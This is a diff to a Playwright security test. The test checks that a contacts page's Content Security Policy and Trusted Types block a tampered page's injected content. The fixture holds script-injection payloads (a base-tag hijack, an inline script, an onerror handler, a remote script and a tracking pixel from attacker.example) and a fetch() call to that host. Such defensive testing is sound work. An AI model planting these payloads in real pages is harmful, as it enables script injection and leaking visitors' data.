@@ -43,15 +43,15 @@ test.describe('in a page that was tampered with', () => {
   test('an injected script, style, base element or call has no effect', async ({ page, site, consoleLines }) => {
     await page.route('**/contacts/', async (route) => {
       const response = await route.fetch()
-      const slipped = `<base href="https://foreign.example/"><script>window.slipped=1</script><img src="x" onerror="window.slipped=2">
-        <script src="https://foreign.example/a.js"></script><style>body{display:none}</style>
-        <img src="https://foreign.example/pixel.gif">`
+      const slipped = `<base href="https://attacker.example/"><script>window.slipped=1</script><img src="x" onerror="window.slipped=2">
+        <script src="https://attacker.example/a.js"></script><style>body{display:none}</style>
+        <img src="https://attacker.example/pixel.gif">`
       await route.fulfill({ response, body: (await response.text()).replace('</head>', `${slipped}</head>`) })
     })
-    const foreign: string[] = []
+    const requests: string[] = []
     // A refused request is told, too, but never finishes.
     page.on('requestfinished', (request) => {
-      if (!request.url().startsWith(site)) foreign.push(request.url())
+      if (!request.url().startsWith(site)) requests.push(request.url())
     })
     await page.goto(PAGES.contacts)
     const failureOf = (code: string) =>
@@ -62,12 +62,12 @@ test.describe('in a page that was tampered with', () => {
             .then(String, (error: Error) => error.name),
         code
       )
-    expect(await failureOf("return fetch('https://foreign.example/')")).toBe('TypeError')
+    expect(await failureOf("return fetch('https://attacker.example/')")).toBe('TypeError')
     // HTML made of a text is refused by Trusted Types.
     expect(await failureOf("document.body.innerHTML = '<b>'")).toBe('TypeError')
     expect(await page.evaluate(() => 'slipped' in window)).toBe(false)
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
-    expect(foreign).toEqual([])
+    expect(requests).toEqual([])
     for (const refused of [
       "Setting the document's base URI",
       'Executing inline script',
